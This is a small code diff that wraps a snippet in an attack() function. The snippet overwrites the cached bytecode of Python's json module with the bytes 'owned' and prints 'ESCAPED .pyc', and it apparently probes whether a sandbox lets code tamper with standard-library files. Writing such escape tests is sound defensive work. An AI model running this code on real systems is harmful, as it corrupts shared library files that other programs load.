@@ -3,6 +3,11 @@
 import importlib.util
 import json
 
-with open(importlib.util.cache_from_source(json.__file__), "r+b") as stream:
-    stream.write(b"owned")
-print("ESCAPED .pyc")
+
+def attack():
+    with open(importlib.util.cache_from_source(json.__file__), "r+b") as stream:
+        stream.write(b"owned")
+    print("ESCAPED .pyc")
+
+
+attack()
